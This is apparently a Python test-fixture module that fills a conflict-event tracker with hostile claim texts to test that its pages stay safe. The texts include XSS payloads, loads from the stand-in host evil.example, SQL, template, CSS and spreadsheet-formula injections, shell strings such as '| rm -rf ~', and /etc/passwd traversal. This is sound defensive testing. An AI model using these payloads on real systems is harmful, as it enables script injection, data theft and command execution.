"""Decides what somebody may put into a claim to get at whoever reads it, and how a tracker full of that is made.

Each text tries one thing: to run a script (which sets `window.__hit`), to reach a host (`evil.example`), to open a
dialog, to add an element or an attribute, or to upset what is around it. Whatever a page shows of them, it has to
have the same elements as of their `twin`: a text as long, with its spaces and lines, that tries nothing.
"""

from __future__ import annotations

from collections.abc import Callable, Collection, Iterator, Sequence
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any, Final, NamedTuple

from tracker import Tracker
from tracker.desk.intake import Drafted, draft
from tracker.desk.keywords import typed_claim
from tracker.desk.recording import Decision, Recorder, unseen
from tracker.desk.registry import new_actor, new_place, new_source
from tracker.errors import TrackerError
from tracker.names import Resolved
from tracker.record.events import Event, PlaceAliased, typed_by_somebody
from tracker.zones import DAY, parse_iso

HIT: Final = "window.__hit=1"
THERE: Final = "//evil.example/"
NOW: Final = parse_iso("2024-12-10T12:00:00Z")

# -- scripts and markup ----------------------------------------------------------------------------------

_BEFORE: Final = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
    "</template>", "</bdi></p>", "</select>", "<svg>", "<math><mtext>", "<!--", "<![CDATA[",
)  # fmt: skip
"""What ends the place in which a text stands."""
_SCRIPTS: Final = (
    f"<script>{HIT}</script>", f"<ScRiPt\n>{HIT}</sCrIpT >", f"<script src={THERE}a.js></script>",
)  # fmt: skip
_ELEMENTS: Final = (
    f"<img src=x onerror={HIT}>", f"<img/src='x'/onerror={HIT}>", f"<IMG SRC=x ONERROR\n=\n'{HIT}'>",
    f"<svg onload={HIT}>", f"<svg/onload={HIT}//", f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>", f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>", f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>", f"<marquee onstart={HIT}>x</marquee>",
    f"<b style='animation-name:x' onanimationstart={HIT}>x</b>", f"<p tabindex=1 autofocus onfocus={HIT}>x</p>",
    f"<iframe srcdoc='<script>parent.{HIT.removeprefix('window.')}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT.removeprefix('window.')}></iframe>", f"<object data={THERE}o></object>",
    f"<embed src={THERE}e>", f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>", f"<meta http-equiv=refresh content='0;url={THERE}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", f"<base href={THERE}>",
    f"<link rel=stylesheet href={THERE}l.css>", f"<link rel=prefetch href={THERE}p>",
    f"<style>@import url({THERE}i.css);</style>", "<style>*{display:none!important}</style>",
    f"<img srcset='{THERE}s 1x'>", f"<picture><source srcset={THERE}s><img></picture>",
    f"<svg><image href={THERE}i></svg>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></use></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x></svg>", f"<svg><a href=javascript:{HIT}><text>x</text></a></svg>",
    f"<math href=javascript:{HIT}>x</math>", "<plaintext>", "<textarea>", "<title>", "<xmp>", "<noembed>", "<table><td>",
    "<!--", "<!doctype html>", "<?xml version='1.0'?>", "</body></html>", "<h1>Breaking news</h1>",
    # What is harmless as it is read, and not as it is written again.
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">', f"<svg><style><img src=x onerror={HIT}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
    f"<template><img src=x onerror={HIT}></template>",
    # Names that a script of the page may look for in its document.
    "<a id=map></a><a id=map name=getContext></a>", "<form id=time><input name=value></form>", "<img name=cookie>",
    "<img id=currentScript>",
)  # fmt: skip
_ATTRIBUTES: Final = (
    f"onmouseover={HIT}", f"autofocus onfocus={HIT} x=", f"style=position:fixed;inset:0 onclick={HIT} x=",
    f"href=javascript:{HIT} x=",
)  # fmt: skip

# -- addresses -----------------------------------------------------------------------------------------

_SCRIPT_ADDRESSES: Final = tuple(
    f"{scheme}{HIT}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:",
        "\x01javascript:", "javascript\n:", "javascript:/**/", "javascript://x%0a", "javascript&colon;",
        "&#106;avascript:", "&#x6A;avascript&#58;", "%6aavascript:", "\u202ejavascript:", "feed:javascript:",
        "view-source:javascript:", "vbscript:", "livescript:",
    )
)  # fmt: skip
_OTHER_ADDRESSES: Final = (
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>", "file:///etc/passwd",
    "blob:http://127.0.0.1/x", "ftp://evil.example/x", f"{THERE}x", "\\\\evil.example\\x", "mailto:a@evil.example",
    "about:blank", "https:evil.example", "intent://x#Intent;end", "../../admin", "?token=", "#map",
)  # fmt: skip
_WEB_ADDRESSES: Final = (
    f'https://evil.example/"onmouseover="{HIT}', f"https://evil.example/'onclick='{HIT}",
    f"https://evil.example/`onclick=`{HIT}", f'https://evil.example/"><script>{HIT}</script>',
    f"https://evil.example/ onfocus={HIT} autofocus", f"https://evil.example/\nonclick={HIT}",
    "https://127.0.0.1:80@evil.example/", "https://evil.example/%22%3E%3Cscript%3E", "http://evil.example\\@good.example",
    "https://\u0435vil.example/", "https://evil.example/\u202egpj.exe", "https://evil.example/#</a>",
    "https://evil.example/?a=b&copy=1&lt;x", "https://[::1]/", "https://", "http://%00", "https://evil.example:99999/",
    f"https://evil.example/{'a' * 2000}", f"https:javascript:{HIT}", "https://evil.example/\u2028x",
)  # fmt: skip

# -- what upsets what is around it -----------------------------------------------------------------------

_ENTITIES: Final = (
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;", f"&quot;&gt;&lt;img src=x onerror={HIT}&gt;", "&#0;&#xD800;&bogus;&",
    f"%3Cscript%3E{HIT}%3C/script%3E", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"\\x3cimg src=x onerror={HIT}\\x3e",
    f"＜script＞{HIT}＜/script＞", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{{ config }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ ''.__class__.__mro__ }}",
    f"{{{{constructor.constructor('{HIT}')()}}}}", f"${{{HIT}}}", "#{7*7}", "<%= 7 * 7 %>", "[[7*7]]", "%(x)s %s {0} {x}",
    "$& $1 $` $' $$", f"`+({HIT})+`", f"'+({HIT})+'", f'"+({HIT})+"', f"\\'+({HIT})//", f"*/{HIT}/*", f"\n{HIT}//",
)  # fmt: skip
_IN_JSON: Final = (
    f"</script><script>{HIT}</script>", f"<!--<script>{HIT}", "<!-- <script> -->", f"<\\/script><script>{HIT}</script>",
    f"</SCRIPT\t><img src=x onerror={HIT}>", f"\u2028{HIT}", f"\u2029{HIT}", "\\", '\\"', '"}],"x":[{"', "\\u0000", "]]]]><",
    "__proto__", "constructor", "hasOwnProperty", "toString", "null", "undefined", "NaN", "-0", "1e999", "[object Object]",
)  # fmt: skip
_STYLES: Final = (
    f"red;background:url({THERE}c)", f'";background:url({THERE}c);x:"', f"}}</style><script>{HIT}</script>",
    f"}}body{{background:url({THERE}c)}}", f"url('{THERE}u')", f"expression({HIT})", f"@import '{THERE}i';",
    "*/}*{display:none}/*", "#fff;position:fixed;inset:0;z-index:99999", "\\65xpression(x)",
)  # fmt: skip
_DIRECTIONS: Final = (
    *(
        f"{opened}Homs {mark} held{closed}"
        for mark, (opened, closed) in product(
            ("\u202e", "\u2067", "\u202b"), (("", ""), ("\u2066", ""), ("", "\u2069\u2069\u202c"))
        )
    ),
    "\u200f\u200e\u061c", "حمص (held) \u202dby\u202c الثوار", "\u202e" * 60 + "x", "\u2066" * 130 + "x",
)  # fmt: skip
_INVISIBLE: Final = (
    "Ho\u200bms", "H\u200do\u200cms", "\ufeffHoms", "Ho\u00adms", "Ho\u2060ms", "\u3164", "Ho\u180ems", "Homs\u00a0",
    "Homs" + "".join(map(chr, range(0xE0041, 0xE0051))), "Homs\ufe0f\ufe0f", "Нoms", "Hοms",
)  # fmt: skip
_CONTROLS: Final = (
    "\0", f"<scr\0ipt>{HIT}</scr\0ipt>", "a\x01b", "a\x08\x08b", "a\x0bb\x0cc", "\x1b[31mred\x1b[2J", "\x9b2J", "a\x7fb",
    "a\x85b", "a\rb", "a\r\nSet-Cookie: a=b\r\n\r\n<script>", "\ufffd\ufffe\uffff", "\ud800", "\U0010ffff", "a\tb\n\nc",
)  # fmt: skip
_LONG: Final = (
    "A" * 480, "A" * 5_000, "A" * 20_001, "ديرالزور" * 55, "漢" * 480, "👩\u200d👩\u200d👧\u200d👦" * 60, "<b>" * 150,
    "&" * 480, "a b " * 4_900, "\n" * 200 + "x", "W" * 200 + "\u00ad" * 200, "(" * 480,
)  # fmt: skip
_STACKS: Final = (
    "Z" + "\u0301" * 100, "H\u0336o\u0336m\u0336s\u0336" * 20, "ح" + "\u064b\u0651" * 120, "".join(f"{x}{'̀́̂̃' * 12}" for x in "Homs"),
    "\u0e01" + "\u0e49" * 80, "\u20dd\u20e3x", "\U0001f1f8" * 41,
)  # fmt: skip
_OTHERS: Final = (
    "'; DROP TABLE claims;--", "=cmd|' /C calc'!A0", "@SUM(1+1)", "| rm -rf ~", "$(id)", "`id`", "../../etc/passwd",
    "%2e%2e%2f", "?a=b&c=d#e", "/", ".", "con", "a;b=c", "unnamed: unnamed: x", "  x  ", "-", "--write", "\u00a0",
)  # fmt: skip


def texts() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    yield from (before + script for before, script in zip(_BEFORE, _SCRIPTS * 9, strict=False))
    yield from (before + _ELEMENTS[0] for before in _BEFORE)
    yield from _ELEMENTS
    yield from (f"x{quote} {one}{quote}" for quote, one in product(('"', "'", "`", ""), _ATTRIBUTES))
    for some in (
        _SCRIPT_ADDRESSES, _OTHER_ADDRESSES, _WEB_ADDRESSES, _ENTITIES, _TEMPLATES, _IN_JSON, _STYLES, _DIRECTIONS,
        _INVISIBLE, _CONTROLS, _LONG, _STACKS, _OTHERS,
    ):  # fmt: skip
        yield from some


def twin(text: str) -> str:
    """A text that tries nothing, as long, with its spaces and its lines; of an address of the web, one too."""
    scheme = next((one for one in ("https://", "http://") if text.startswith(one)), "")
    return scheme + "".join(char if char in " \n" else "x" for char in text[len(scheme) :])


def _address(text: str) -> str:
    """An address as it is, and anything else as the end of one."""
    whole = text.startswith(("https://", "http://")) or text in (*_SCRIPT_ADDRESSES, *_OTHER_ADDRESSES)
    return text if whole else f"https://evil.example/{text}"


# -- a tracker full of them ------------------------------------------------------------------------------

NAMES: Final = ("place", "alias", "actor", "source")
"""What is called so."""
FIELDS: Final = ("quote", "note", "said_by", "detail", "detail_key", "document", "url")
"""What of a claim says so."""
Left = tuple[int, str]
"""The number of a text, and where it was to go."""


class Recorded(NamedTuple):
    """What became of some texts: places and claims, one for each, and why the record refused them where."""

    places: list[str]
    claims: list[str]
    refused: dict[Left, str]


def record(where: str | Path, given: Sequence[str], *, leave: Collection[Left] = ()) -> Recorded:
    """Tell a tracker of each text in every field that takes it; in place of what is refused, of a plain word.

    It is what the verbs would record (which would take minutes), in one go. With the twins of the same texts,
    and `leave` what was refused of those, a tracker of the same shape comes about.
    """
    done, events, ids = drafted(given, leave=leave)
    recorder = Recorder(str(where), lambda: NOW, None, "hostile")
    recorder.record(lambda _: Decision(events, None, ids), unseen)
    return done


def drafted(
    given: Sequence[str], *, leave: Collection[Left] = ()
) -> tuple[Recorded, list[Event], dict[str, str]]:
    """What would be recorded of texts: what becomes of them, the events, and the ids of the claims by stream."""
    done, events, ids = Recorded([], [], {}), list[Event](), dict[str, str]()
    for number, text in enumerate(given):
        one = _One(number, text, {field for left, field in leave if left == number}, done.refused)
        claim = one.claim()
        events += (*one.names(), claim.event)
        ids[claim.event.stream] = claim.event_id
        done.places.append(one.place)
        done.claims.append(claim.event.claim)
    return done, events, ids


def made(where: str, *, harmless: bool) -> str:
    """A new tracker that is told of all texts, or of their twins."""
    Tracker.create(where, clock=lambda: NOW - DAY)
    if harmless:
        record(where, [twin(text) for text in texts()], leave=drafted(texts())[0].refused)
    else:
        record(where, texts())
    return where


class _One(NamedTuple):
    """A text, its number, where it is not tried, and what was refused."""

    number: int
    text: str
    leave: Collection[str]
    refused: dict[Left, str]

    @property
    def place(self) -> str:
        return f"hostile-{self.number}"

    def names(self) -> Iterator[Event]:
        """A place with another name, an actor and a source."""
        number = self.number
        where: dict[str, Any] = {"lat": 33 + number % 20 / 6, "lon": 36 + number // 20 / 5}
        yield self._called("place", lambda name: new_place(name, kind="town", id_=self.place, **where))
        yield self._called("alias", lambda name: PlaceAliased(place=self.place, aliases=(f"{name} too",)))
        yield self._called("actor", lambda name: new_actor(name, level="side", id_=f"side-{number}"))
        yield self._called("source", lambda name: new_source(name, kind="media", id_=f"source-{number}"))

    def _called(self, field: str, make: Callable[[str], Event]) -> Event:
        name = f"{self.text} {self.number:03}"
        if field not in self.leave and self._taken(field, lambda: make(name)):
            return make(name)
        return make(f"{field} {self.number:03}")

    def claim(self) -> Drafted:
        """That the actor captured the place, with the text in all that takes it."""
        tried = [field for field in FIELDS if field not in self.leave]
        return self._drafted([one for one in tried if self._taken(one, partial(self._drafted, [one]))])

    def _taken(self, field: str, make: Callable[[], object]) -> bool:
        try:
            with typed_by_somebody():
                make()
        except TrackerError as refused:
            self.refused[self.number, field] = str(refused)
            return False
        return True

    def _drafted(self, fields: Collection[str]) -> Drafted:
        told: dict[str, dict[str, Any]] = {
            "quote": {"quote": self.text}, "note": {"note": self.text}, "url": {"url": _address(self.text)},
            "said_by": {"said_by": [f"unnamed: {self.text}"]}, "document": {"document": self.text},
        }  # fmt: skip
        details = {"detail": {"framing": self.text}, "detail_key": {self.text: "x"}}
        minute = f"{self.number // 60:02}:{self.number % 60:02}"  # each its own: lists are in order of time
        typed = typed_claim("add_claim", {
            "actor": [f"side-{self.number}"], "predicate": "captured", "place": self.place,
            "source": f"source-{self.number}", "at": f"2024-12-08T{minute}", "reported": f"2024-12-09T{minute}",
            "details": {key: value for one in fields for key, value in details.get(one, {}).items()},
            **{key: value for one in fields for key, value in told.get(one, {}).items()},
        })  # fmt: skip
        return draft(typed, find=lambda _, name: Resolved(name, name), now=NOW, zone="UTC")
